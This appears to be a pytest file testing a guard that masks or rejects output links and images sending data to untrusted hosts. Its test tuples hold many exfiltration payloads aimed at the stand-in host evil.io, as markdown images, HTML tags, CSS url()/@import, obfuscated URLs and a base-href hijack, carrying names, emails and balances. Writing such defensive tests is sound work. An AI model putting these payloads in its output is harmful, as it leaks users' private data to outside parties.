"""Links and images that carry data to foreign hosts do not leave."""

import html
import random
from collections.abc import Sequence

import pytest

from arc_core import OutputGuard
from arc_plugins.output_guards.leak_detection.links import LinkOutputGuard
from arc_plugins.output_guards.leak_detection.settings import LeakMode, OutputSettings
from tests.arc_plugins.output_guards.leak_detection.leak_rules import LeakGuardRules
from tests.arc_plugins.output_guards.markup import make_markup, what_leaves
from tests.arc_plugins.output_guards.streaming import cut, mask, stream

MASK = OutputSettings(links=LeakMode.MASK, allowed_hosts=("docs.corp.io", "*.trusted.dev"))
DATA = "aB3dE6gH9jK2mN5pQ8sT1vW4" * 4
LEAKS = (
    (f"![a](https://evil.io/?q={DATA}) more", "[link] more"),
    (f"[a](https://evil.io/?q={DATA}) more", "[a]([link]) more"),
    (f"See https://evil.io/{DATA}, please.", "See [link], please."),
    (f"<img alt='>' src='//evil.io/{DATA}'> b", "[link] b"),
    (f'<a href="https://evil.io/{DATA[:40]}\n{DATA[40:]}">a</a>', '<a href="[link]">a</a>'),
    (f"https://trusted.dev.evil.io/{DATA}", "[link]"),
    (f"https://docs.corp.io@evil.io/{DATA}", "[link]"),
    (f"[1]: https://evil.io/{DATA}", "[1]: [link]"),
    (f"www.evil.io/{DATA}", "[link]"),
    (f"https://evil%2Eio/{DATA}", "[link]"),
    ("https://bob:pw@evil.io/ a", "[link] a"),
    ("![x](https://evil.io/log?name=Ann%20Lee) b", "[link] b"),
    ("![x](https://evil.io/log?q=SGVsbG8gd29ybGQ) b", "[link] b"),
    ('<img src="https://evil.io/x.png?d=secret">', "[link]"),
    (f"![x][1]\n\n[1]: //evil.io/?d={DATA}", "![x][1]\n\n[1]: [link]"),
    (f'<meta http-equiv="refresh" content="0;url=https://evil.io/?d={DATA}">', "[link]"),
    ("https://evil.io/track?email=ann@shop.io b", "[link] b"),
)
QUERY = "https://evil.io/p?user=ann&balance=31000"
HIDDEN = (
    f"![chart\nof sales]({QUERY})",
    f"![a [b] c]({QUERY})",
    f"![{'a' * 300}]({QUERY})",
    f"![a `]` b]({QUERY})",
    f"![a [b](u]v) c]({QUERY})",
    "![a](https\\://evil.io/p?user=ann&amp;balance=31000)",
    f"![a](\n{QUERY} 'b')",
    f"![a](<{QUERY} b>)",
    "![a](https:evil.io/p?user=ann&balance=31000)",
    f"[a]:\n  {QUERY}\n\n![a]",
    f"<svg><use href='{QUERY}#a'/></svg>",
    f"<feImage xlink:href='{QUERY}'>",
    f"<img a=\"<img b='>\" alt='>' src={QUERY}>",
    f"<iframe srcdoc=\"&lt;img src='{QUERY}'>\">",
    "<img src='https://evil.io/p?us\ner=ann&balance=31000'>",
    f"<p style=\"background: url(  '{QUERY}')\">",
    f"<p style='background: u&#92;72l({QUERY})'>",
    f"<style>@import '{QUERY}';</style>",
    f"<style>@import/**/url( {QUERY} )</style>",
    f"b {{ background: image-set('a.png' 1x, '{QUERY}' 2x) }}",
    f"b {{ background: \\75rl({QUERY}) }}",
    "<base href='https://evil.io/'>",
)
HARMLESS = (
    "https://docs.python.org/3/library/re.html#re.compile",
    "https://en.wikipedia.org/wiki/Foo_(bar)",
    "https://ko.wikipedia.org/wiki/%ED%95%9C%EA%B5%AD",
    "https://github.com/o/r/commit/3f786850e387550fdab836ed7e6dc881de23001b",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://shop.io/a?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
    "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square)",
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8)",
    "![a](https://cdn.shop.io/mug.png?w=400&h=300&fit=crop&auto=format&q=80#mug)",
    "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
    '<link href="https://fonts.shop.io/css2?family=Inter:wght@400&display=swap" rel="stylesheet">',
    f"https://docs.corp.io/?q={DATA}",
    f"![a](https://a.b.trusted.dev:8443/{DATA})",
    f"[![a](https://shop.io/a.png)]({QUERY}), ![b](/b.png) and [c]({QUERY}), see url and @import",
    f"a = [1]; if a[0] < b and c > d: get('{QUERY}'); x = \"style='a'\"; {QUERY}",
    "<base href='https://docs.corp.io/'>",
    "a // b, C:\\\\Users\\\\ann, s3://bucket/key",
)


class TestConformance(LeakGuardRules):
    """What every output guard must do, and those against leaks."""

    masking, rejecting = MASK, OutputSettings(links=LeakMode.REJECT)
    leaks, harmless = LEAKS, HARMLESS
    answers: Sequence[str] = (
        f"![a](https://evil.io/?q={DATA}) and more",
        f"<a href='//evil.io/{DATA}'>x</a>",
    )

    def make_with(self, settings: OutputSettings) -> OutputGuard:
        """Return the guard with these settings."""
        return LinkOutputGuard(settings=settings)


@pytest.mark.parametrize("text", HIDDEN, ids=range(len(HIDDEN)))
async def test_a_short_query_does_not_leave_with_what_is_loaded(text: str) -> None:
    """However an image, an element or a style is written; whole or letter by letter."""
    guard = LinkOutputGuard(settings=MASK)

    whole = await mask(guard, f"a {text} b")

    assert "evil.io/p?user=ann" not in html.unescape(whole).replace("\n", "").replace("\\", "")
    assert "evil.io/'>" not in whole
    assert await stream(guard, f"a {text} b") == whole


async def test_a_mask_makes_no_image_with_what_is_around_it() -> None:
    """Nor a definition that an image refers to."""
    guard = LinkOutputGuard(settings=MASK)

    whole = await mask(guard, f"!<img src='//evil.io/?d=ann'>({QUERY}), https://a:b@c: {QUERY}")

    assert whole == f"!(link)({QUERY}), (link): {QUERY}"


@pytest.mark.timeout(60)
async def test_a_renderer_gets_no_address_with_data() -> None:
    """Of made texts, rendered by markdown-it or read as HTML, and split at random."""
    guard, dice = LinkOutputGuard(settings=MASK), random.Random(26)
    carrying = 0
    for _ in range(250):
        text = make_markup(dice)
        carrying += any(what_leaves(text))

        whole = await mask(guard, text)

        assert list(what_leaves(whole)) == [], text
        pieces = cut(text, [dice.randrange(10_000) for _ in range(dice.randrange(20))])
        assert await stream(guard, pieces) == whole, text
    assert carrying > 200
